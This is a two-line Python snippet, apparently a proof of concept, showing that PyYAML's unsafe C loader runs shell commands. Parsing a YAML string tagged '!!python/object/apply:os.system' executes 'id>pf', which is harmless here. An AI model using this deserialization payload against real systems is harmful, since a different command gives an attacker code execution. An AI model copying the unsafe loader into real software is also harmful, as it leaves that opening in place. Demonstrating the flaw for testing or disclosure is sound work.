from yaml import CUnsafeLoader as C, load_all
list(load_all("!!python/object/apply:os.system [id>pf]", Loader=C))
